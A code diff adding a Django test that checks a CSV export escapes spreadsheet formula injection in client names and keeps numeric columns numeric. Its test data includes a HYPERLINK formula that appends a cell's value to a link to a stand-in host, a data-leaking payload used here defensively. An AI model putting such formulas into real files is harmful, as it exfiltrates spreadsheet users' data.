@@ -234,3 +234,30 @@ def test_report_titles_are_translated():
     for language in ("kk", "ru"):
         with translation.override(language):
             assert str(LearnersReport.page_title) != "Learners by day"
+
+
+@pytest.mark.django_db
+def test_a_name_a_spreadsheet_would_run_goes_out_as_text(admin_client):
+    """CSV injection: a client's name starting with "=" must not become a formula."""
+    name = '=HYPERLINK("http://example.com/?"&A1,"ХАЖ")'
+    client = RegistryClient.objects.create(name=name, token_hash="y" * 64)
+    RegistryCall.objects.create(
+        client=client, kind=RegistryCallKind.VERIFY, http_status=200, result="valid"
+    )
+    RegistryCall.objects.create(
+        client=RegistryClient.objects.create(name="-1+1", token_hash="z" * 64),
+        kind=RegistryCallKind.VERIFY,
+        http_status=200,
+        result="valid",
+    )
+    today = timezone.localdate().isoformat()
+    response = admin_client.get(
+        "/admin/figures/registry-calls/",
+        {"period_from": today, "period_to": today, "export": "csv"},
+    )
+    body = b"".join(response.streaming_content).decode("utf-8-sig")
+    clients = {line[1] for line in csv.reader(io.StringIO(body))}
+    assert "'" + name in clients and "'-1+1" in clients
+    assert name not in clients
+    counts = [line[3] for line in list(csv.reader(io.StringIO(body)))[1:]]
+    assert counts == ["1", "1"]  # numbers stay numbers
